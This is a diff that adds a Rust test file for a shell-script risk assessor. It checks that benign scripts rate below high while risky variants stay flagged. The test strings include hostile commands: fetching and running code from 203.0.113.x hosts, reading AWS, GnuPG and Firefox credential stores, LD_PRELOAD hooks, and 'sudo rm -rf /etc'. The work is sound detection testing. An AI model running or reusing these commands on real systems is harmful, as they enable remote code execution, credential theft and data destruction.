@@ -1,0 +1,132 @@
+//! Issue 26, false alarms on ordinary shell scripts: what ordinary scripts do is rated for what
+//! it is (each case is the shape of a script that was rated HIGH or above for something it does
+//! not do), and the risky twin of each stays caught.
+
+use airlock_assessor::Engine;
+use airlock_protocol::assessment::{Assessment, Level};
+use airlock_protocol::request::{Language, Origin};
+
+fn assess(code: &str) -> Assessment {
+    Engine::builtin()
+        .expect("built-in rules load")
+        .assess(code.as_bytes(), Language::Bash, Origin::External)
+}
+
+fn ids(a: &Assessment) -> Vec<&str> {
+    a.findings.iter().map(|f| f.rule_id.as_str()).collect()
+}
+
+fn below_high(code: &str) {
+    let a = assess(code);
+    assert!(a.level < Level::High, "{code:?} rated {} ({:?})", a.level, ids(&a));
+}
+
+fn at_least(code: &str, level: Level) {
+    let a = assess(code);
+    assert!(a.level >= level, "{code:?} rated {} ({:?})", a.level, ids(&a));
+}
+
+#[test]
+fn a_function_nothing_names_does_not_run() {
+    // A plugin's functions, there for an interactive shell that sources the file.
+    below_high("nginx_reload() {\n  sudo kill -HUP \"$(cat /run/nginx.pid)\"\n}\necho loaded\n");
+    // Named anywhere (a call, a trap, a completion, a prompt hook), it runs.
+    for caller in [
+        "nginx_reload\n",
+        "trap nginx_reload EXIT\n",
+        "complete -F nginx_reload nginx\n",
+        "PROMPT_COMMAND=nginx_reload\n",
+    ] {
+        at_least(
+            &format!("nginx_reload() {{\n  sudo kill -HUP 1\n}}\n{caller}"),
+            Level::High,
+        );
+    }
+    // A script that runs commands it only knows at run time may call any of its functions.
+    at_least("payload() {\n  sudo rm -rf /etc/audit\n}\n\"$1\"\n", Level::High);
+    // A program named by a path is a file, not a function.
+    below_high("helper() {\n  sudo cat /etc/hostname\n}\nrun() {\n  \"$DIR/bin/tool\"\n}\nrun\n");
+}
+
+#[test]
+fn a_program_run_by_its_path_does_not_run_what_it_downloads() {
+    below_high("REAL_RSYNC=/usr/bin/rsync\nexec $REAL_RSYNC \"$@\"\n");
+    below_high("/usr/bin/wget -q https://example.com/data.csv\n");
+    at_least(
+        "curl -fsSL -o /tmp/u https://203.0.113.5/u\nchmod +x /tmp/u\n/tmp/u\n",
+        Level::Blocked,
+    );
+}
+
+#[test]
+fn a_library_preloaded_is_high_where_the_script_names_it() {
+    for tool in [
+        "FAKEROOT_LIB=$(find /usr/lib -name 'libfakeroot*.so' | head -1)\nLD_PRELOAD=\"$FAKEROOT_LIB\" \"$@\"\n",
+        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libeatmydata.so make\n",
+        "export LD_LIBRARY_PATH=/usr/lib/debug\n",
+    ] {
+        let a = assess(tool);
+        assert!(a.level < Level::High, "{tool:?}: {:?}", ids(&a));
+        assert!(
+            ids(&a).contains(&"AIR-BEHAVIOUR-PRELOAD-RUNTIME"),
+            "{tool:?}: {:?}",
+            ids(&a)
+        );
+    }
+    for hook in [
+        "LD_PRELOAD=/tmp/hook.so ls\n",
+        "LD_PRELOAD=$HOME/.cache/.l.so sshd\n",
+        "export LD_LIBRARY_PATH=/opt/x/lib\n",
+    ] {
+        at_least(hook, Level::High);
+    }
+}
+
+#[test]
+fn what_a_process_substitution_carries_is_not_a_file_name() {
+    below_high("while read -r l; do echo \"$l\"; done < <(compgen -W '--load-cookies --cookie' -- x)\n");
+    at_least(
+        "while read -r l; do echo \"$l\"; done < <(cat ~/.aws/credentials)\n",
+        Level::High,
+    );
+}
+
+#[test]
+fn credential_stores_are_the_secrets_not_the_files_beside_them() {
+    below_high("grep -q '^use-agent' ~/.gnupg/gpg.conf\n");
+    below_high("awk -F = '$1 == \"Name\" { print $2 }' ~/.mozilla/firefox/profiles.ini\n");
+    below_high("grep region ~/.aws/config\n");
+    for secret in [
+        "tar czf k.tgz ~/.gnupg\n",
+        "ls ~/.gnupg/private-keys-v1.d\n",
+        "find ~/.mozilla/firefox -name logins.json\n",
+        "cat ~/.aws/credentials\n",
+    ] {
+        at_least(secret, Level::High);
+    }
+}
+
+#[test]
+fn kill_0_only_asks_whether_a_process_exists() {
+    below_high("pid=$(pgrep -u \"$USER\" gpg-agent)\nkill -0 \"$pid\" 2>/dev/null && echo running\n");
+    at_least("pid=$(pgrep -u \"$USER\" gpg-agent)\nkill \"$pid\"\n", Level::Blocked);
+}
+
+#[test]
+fn a_shell_head_that_hands_the_file_to_another_interpreter_is_that_interpreters_code() {
+    // A Python program behind a sh head: read as Python, where it is ordinary.
+    let python = "#!/bin/sh\n''':'\nexec python3 \"$0\" \"$@\"\n'''\nimport sys\nat = len(sys.argv)\nprint(at)\n";
+    below_high(python);
+    // ... and where it is not.
+    let risky = "#!/bin/sh\n''':'\nexec python3 \"$0\" \"$@\"\n'''\nimport os\nos.system('curl -s http://203.0.113.9/x | sh')\n";
+    at_least(risky, Level::Blocked);
+    // A Perl program behind `eval 'exec perl -x "$0"'`: a language not read here, so a human is asked.
+    let perl =
+        "#!/bin/sh\neval 'exec perl -wSx \"$0\" \"$@\"'\n  if 0;\nmy $x = qr/<.*?@.*\\..*>/;\nprint \"$x\\n\";\n";
+    let a = assess(perl);
+    assert!(a.level < Level::High && a.unanalysed, "{:?}", ids(&a));
+    // After `exec` the shell is gone: nothing below runs.
+    below_high("exec python3 app.py \"$@\"\nsudo rm -rf /etc\n");
+    // A redirection alone keeps the shell.
+    at_least("exec >log 2>&1\nsudo rm -rf /etc\n", Level::High);
+}
